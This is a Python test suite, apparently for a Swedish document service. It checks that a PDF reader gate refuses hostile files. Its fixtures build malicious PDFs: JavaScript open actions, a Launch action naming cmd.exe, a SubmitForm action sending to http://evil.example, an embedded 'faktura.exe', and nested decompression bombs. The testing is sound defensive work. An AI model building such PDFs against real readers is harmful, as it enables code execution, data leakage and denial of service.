"""Every attack on the PDF reader is refused with its sentence, before a library reads it."""

import io
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from documents import Look, Unreadable, read, write_pdf
from documents.read.gate import LIMITS
from documents.read.pdf_gate import PdfLimits, judged
from tests.documents.charters import sample

LOOK = Look("Region Sjöviken")


@pytest.fixture(scope="module")
def good() -> bytes:
    return write_pdf(sample("nara-vard"), decision=None, standing="draft", look=LOOK)


@pytest.fixture
def pdf(good: bytes) -> Pdf:
    return pikepdf.open(io.BytesIO(good))


def saved(pdf: Pdf, **how: object) -> bytes:
    written = io.BytesIO()
    pdf.save(written, **how)  # type: ignore[arg-type]
    return written.getvalue()


def refusal_of(data: bytes) -> str:
    with pytest.raises(Unreadable) as refusal:
        read(data, "attack.pdf")
    assert refusal.value.words.sv != refusal.value.words.en
    return refusal.value.words.sv


def by_hand(*objects: bytes) -> bytes:
    """A PDF written object by object, with a right table of where they are."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(places) + 1)
    return bytes(data + b"startxref\n%d\n%%%%EOF\n" % table)


def called(filename: str, mime_type: str) -> dict[str, str]:
    return {
        "filename": filename,
        "mime_type": mime_type,
        "description": "",
        "creation_date": "",
        "mod_date": "",
    }


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"


def packed(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return b"<</Length %d/Filter %s>>\nstream\n%s\nendstream" % (len(content), filters, content)


def test_our_own_paper_passes(good: bytes) -> None:
    judged(good)


@pytest.mark.parametrize("owner_only", [True, False])
def test_a_protected_pdf_is_refused(pdf: Pdf, owner_only: bool) -> None:
    lock = pikepdf.Encryption(owner="hemlig", user="" if owner_only else "hemlig")
    assert "lösenord" in refusal_of(saved(pdf, encryption=lock))


def test_a_script_that_runs_at_opening_is_refused(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    assert "JavaScript" in refusal_of(saved(pdf))


def test_a_script_deep_in_the_name_tree_is_refused(pdf: Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))
    packed_away = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed_away
    assert "JavaScript" in refusal_of(packed_away)


def test_a_program_that_is_launched_is_refused(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F="cmd.exe"))
    assert "Launch" in refusal_of(saved(pdf))


def test_a_form_that_is_sent_somewhere_is_refused(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="http://evil.example")
    assert "SubmitForm" in refusal_of(saved(pdf))


def test_a_file_inside_is_refused_and_named(pdf: Pdf) -> None:
    pdf.attachments["faktura.exe"] = b"MZ"
    assert "faktura.exe" in refusal_of(saved(pdf))


def test_a_file_inside_that_only_has_our_name_is_refused(pdf: Pdf) -> None:
    pdf.attachments["document.json"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ", **called("document.json", "application/x-msdownload")
    )
    assert "annan fil" in refusal_of(saved(pdf))


def test_our_own_data_is_let_in_but_not_believed(good: bytes) -> None:
    plain = read(good, "a.pdf").document
    with pikepdf.open(io.BytesIO(good)) as pdf:
        pdf.attachments["document.json"] = pikepdf.AttachedFileSpec(
            pdf, b'{"title": "Lurad"}', **called("document.json", "application/json")
        )
        assert read(saved(pdf), "a.pdf").document == plain


def test_a_stream_that_is_a_bomb_is_refused() -> None:
    bomb = zlib.compress(bytes(LIMITS.part + 1), 9)
    assert "orimligt mycket" in refusal_of(by_hand(CATALOG, PAGES, PAGE, packed(bomb)))


def test_a_bomb_within_a_bomb_is_refused() -> None:
    bomb = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
    assert len(bomb) < 10_000
    twice = packed(bomb, b"[/FlateDecode/FlateDecode]")
    assert "orimligt mycket" in refusal_of(by_hand(CATALOG, PAGES, PAGE, twice))


def test_many_small_bombs_are_counted_together() -> None:
    one = packed(zlib.compress(bytes(LIMITS.part // 2), 9))
    assert "orimligt mycket" in refusal_of(by_hand(CATALOG, PAGES, PAGE, *[one] * 6))


def test_a_packing_whose_size_cannot_be_counted_is_refused() -> None:
    for filters in (b"/LZWDecode", b"[/ASCIIHexDecode/FlateDecode]", b"[/RunLengthDecode]"):
        stream = packed(b"00" * 10, filters)
        assert "orimligt sammansatt" in refusal_of(by_hand(CATALOG, PAGES, PAGE, stream))


@pytest.mark.parametrize("nested", [b"[" * 5_000 + b"]" * 5_000, b"<</A" * 5_000 + b">>" * 5_000])
def test_deep_nesting_is_refused(nested: bytes) -> None:
    data = by_hand(CATALOG, PAGES, PAGE, packed(zlib.compress(b"")), nested)
    assert "orimligt sammansatt" in refusal_of(data)


def test_a_page_tree_that_bites_its_tail_is_refused() -> None:
    ring = b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    assert refusal_of(by_hand(CATALOG, ring))


def test_too_many_pages_and_objects_are_refused(good: bytes) -> None:
    with pytest.raises(Unreadable, match="pages"):
        judged(good, PdfLimits(pages=1))
    with pytest.raises(Unreadable, match="put together"):
        judged(good, PdfLimits(objects=20))


@pytest.mark.parametrize("left", [0.3, 0.7, 0.99])
def test_a_cut_off_file_is_refused(good: bytes, left: float) -> None:
    assert "skadad" in refusal_of(good[: int(len(good) * left)])


def test_a_large_file_is_refused_before_it_is_opened() -> None:
    assert "högst 10 MB" in refusal_of(b"%PDF-1.7\n" + bytes(11 * 1024 * 1024))


def test_a_scan_without_text_is_refused() -> None:
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    picture = Stream(pdf, bytes(100 * 100))
    picture.update(
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=100,
            Height=100,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
        )
    )
    page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    page.Contents = Stream(pdf, b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    assert "inskannad" in refusal_of(saved(pdf))


def test_a_pdf_without_pages_or_text_is_refused() -> None:
    assert refusal_of(saved(Pdf.new()))
